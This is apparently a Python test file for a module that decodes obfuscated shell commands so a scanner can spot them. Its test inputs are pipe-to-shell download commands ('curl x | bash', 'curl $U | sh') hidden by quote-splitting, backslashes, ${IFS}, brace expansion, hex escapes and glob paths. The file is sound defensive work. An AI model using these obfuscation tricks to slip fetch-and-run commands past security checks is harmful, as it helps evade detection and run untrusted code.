"""What is spelled so that nobody finds it is spelled out; what needs its quotes keeps them."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from davy.knowledge.shell.spelling import spelled_out, unquoted, values_put_in


@pytest.mark.parametrize(
    "written",
    [
        "c''url x | b''ash",
        "cu\\rl x | b\\ash",
        "curl${IFS}x | bash",
        "{curl,x} | bash",
        "$'\\x63\\x75\\x72\\x6c' x | bash",
    ],
)
def test_a_command_in_pieces_is_put_together(written: str) -> None:
    assert spelled_out(written) == "curl x | bash"


def test_a_pattern_is_the_tool_that_it_finds() -> None:
    assert spelled_out("/u?r/b?n/c?rl x") == "/usr/bin/curl x"
    assert spelled_out("ls /usr/lib/*/x*.so") == "ls /usr/lib/*/x*.so"


@pytest.mark.parametrize(
    "written", ['\\. "$NVM_DIR/nvm.sh"', "cp /srv/{a,b} /backup", "echo ''", "a '' b", "/usr/bin/x"]
)
def test_what_hides_nothing_stays_as_it_is(written: str) -> None:
    assert spelled_out(written) == written


def test_values_are_put_in_where_they_are_named() -> None:
    assert values_put_in("U=http://x/y; curl $U | sh") == "U=http://x/y; curl http://x/y | sh"
    assert values_put_in("a=cu\nb='rl'\n${a}$b x") == "a=cu\nb='rl'\ncurl x"
    assert values_put_in("A=$(date); echo $A $B") == "A=$(date); echo $A $B"


def test_quotes_go_only_where_they_are_not_needed() -> None:
    assert unquoted('"curl" "http://x" | \'sh\'') == "curl http://x | sh"
    assert unquoted("echo \"a b\" '$x'") == "echo \"a b\" '$x'"


@given(st.text(max_size=300))
def test_any_text_is_read(text: str) -> None:
    values_put_in(unquoted(spelled_out(text)))


@pytest.mark.parametrize("part", ["{a,", "$'\\x41", "a=b;$a", "$IFS", "/?/?", '"a', 'a="', "''"])
def test_long_text_is_read_in_time(part: str) -> None:
    before = time.process_time()
    values_put_in(unquoted(spelled_out(part * 30_000)))
    assert time.process_time() - before < 1.0


def test_values_do_not_grow_without_bound() -> None:
    assert len(values_put_in("a=" + "x" * 1000 + ";" + "$a" * 10_000)) < 200_000
